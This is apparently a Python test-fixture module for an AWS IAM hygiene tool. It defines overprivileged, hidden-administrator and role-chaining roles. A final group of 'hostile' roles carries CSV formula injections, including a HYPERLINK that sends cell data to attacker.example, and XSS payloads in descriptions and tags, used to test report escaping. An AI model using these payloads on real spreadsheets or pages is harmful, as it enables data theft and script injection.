"""Roles that hold too much, or look as if they did: administrators open, hidden, held back and innocent."""

from __future__ import annotations

from typing import TYPE_CHECKING, Any

from hygiene.simulate.documents import allow, deny, document, permissions, trusts_aws, trusts_service
from hygiene.simulate.story.company import HOME_REGION, mail, role_arn, root_arn
from hygiene.simulate.world import Policy, Role

if TYPE_CHECKING:
    from collections.abc import Mapping

EVERYTHING = permissions("*")

WORKLOAD_BOUNDARY = Policy(
    "WorkloadBoundary",
    document(
        allow(
            ["dynamodb:*", "kms:Decrypt", "lambda:*", "logs:*", "s3:*", "secretsmanager:*", "sqs:*", "cloudwatch:*"]
        ),
        deny(["iam:*", "organizations:*"]),
    ),
    description="The most a workload may hold",
    earlier=(permissions("*"), document(allow("*"), deny("organizations:*"))),
)

POLICIES = (
    WORKLOAD_BOUNDARY,
    Policy("NwaFullAccess", EVERYTHING, description="Copied from AdministratorAccess in 2021"),
    Policy(
        "AdministratorAccess",
        permissions(["cloudwatch:GetMetricData", "cloudwatch:ListMetrics"]),
        path="/reporting/",
        description="Access for the administrators of the reporting tool",
    ),
    Policy("NoIdentityChanges", document(deny(["iam:*", "organizations:*", "account:*"]))),
    Policy("EverythingButIdentity", document({"Effect": "Allow", "NotAction": "iam:*", "Resource": "*"})),
    Policy("IdentityAlone", permissions("iam:*")),
    Policy("UnattachedLeftover", permissions("ec2:*"), description="Nobody uses this"),
)


def _role(account_id: str, name: str, *, team: str = "platform", **more: Any) -> Role:
    facts: dict[str, Any] = {
        "tags": {"owner": mail(team)},
        "created_days_ago": 780,
        "last_used_days_ago": 5,
        "last_used_region": HOME_REGION,
        "used_services": {"ec2": 5, "s3": 12, "lambda": 40},
    }
    return Role(name, trusts_aws(root_arn(account_id)), **{**facts, **more})


def administrators(account_id: str) -> list[Role]:
    """Full administrators, open and hidden."""
    mfa = {"Bool": {"aws:MultiFactorAuthPresent": "true"}}
    admin = ("aws:AdministratorAccess",)
    return [
        _role(account_id, "break-glass-admin", managed=admin, last_used_days_ago=None, used_services={}),
        _role(account_id, "nightly-maintenance-admin", managed=admin, max_session_hours=12),
        _role(account_id, "platform-operator", managed=("NwaFullAccess",)),
        _role(account_id, "split-operator", managed=("EverythingButIdentity", "IdentityAlone")),
        _role(account_id, "bounded-builder", managed=admin, boundary="WorkloadBoundary", team="checkout"),
        _role(account_id, "guarded-operator", managed=(*admin, "NoIdentityChanges"), team="accounts"),
        _role(account_id, "mfa-admin", inline={"everything": document(allow("*", "*", mfa))}),
        Role(
            "mfa-trusted-admin",
            trusts_aws(root_arn(account_id), mfa),
            managed=admin,
            tags={"owner": mail("platform")},
            last_used_days_ago=21,
            last_used_region=HOME_REGION,
            used_services={"iam": 21},
        ),
    ]


def broad_roles(account_id: str) -> list[Role]:
    """Broad, but no administrators; and the innocent namesake."""
    not_identity = document({"Effect": "Allow", "NotAction": ["iam:*", "organizations:*"], "Resource": "*"})
    deployer = document(
        allow("iam:PassRole"),
        allow(["lambda:CreateFunction", "lambda:InvokeFunction", "lambda:UpdateFunctionCode"]),
    )
    return [
        _role(account_id, "reporting-viewer", managed=("AdministratorAccess",), used_services={"cloudwatch": 5}),
        _role(account_id, "bucket-housekeeper", inline={"buckets": permissions("s3:*")}, used_services={"s3": 5}),
        _role(account_id, "access-request-robot", inline={"iam": permissions("iam:*")}, used_services={"iam": 5}),
        _role(account_id, "not-action-operator", inline={"most": not_identity}),
        _role(account_id, "power-developer", managed=("aws:PowerUserAccess",), team="engineering"),
        _role(account_id, "read-only-visitor", managed=("aws:ReadOnlyAccess",), team="support"),
        _role(
            account_id,
            "lambda-deployer",
            inline={"deploy": deployer},
            used_services={"lambda": 5, "iam": 300},
            used_actions={"lambda:CreateFunction": 5, "lambda:UpdateFunctionCode": 5},
        ),
        Role(
            "queue-chain-starter",
            trusts_aws(role_arn(account_id, "lambda-deployer")),
            inline={"next": permissions("sts:AssumeRole", role_arn(account_id, "platform-operator"))},
            description="Role chaining: a deployer becomes an administrator",
            created_days_ago=300,
            last_used_days_ago=44,
            last_used_region=HOME_REGION,
            used_services={"sts": 44},
        ),
        Role("empty-shell", trusts_service("lambda"), tags={"team": "web"}, created_days_ago=500),
    ]


def hostile_roles(account_id: str) -> list[Role]:
    """Texts strangers wrote, for every place a report prints them."""
    read = {"read": permissions("s3:GetObject", "arn:aws:s3:::nwa-public/*")}
    texts: Mapping[str, tuple[str, Mapping[str, str]]] = {
        "=cmd+calc@A0": ("Pasted from a spreadsheet", {"owner": mail("web")}),
        "script-in-description": ("<script>alert(1)</script>", {"owner": mail("web")}),
        "lines-in-description": ("First line\nsecond line\twith a tab", {"owner": mail("web")}),
        "formula-in-tag": ("", {"owner": '=HYPERLINK("http://attacker.example/?"&A1;"owner")'}),
        "markup-in-tag": ("", {"team": "<img src=x onerror=alert(1)>"}),
    }
    return [
        _role(account_id, name, inline=read, description=text, tags=tags, used_services={"s3": 5})
        for name, (text, tags) in texts.items()
    ]
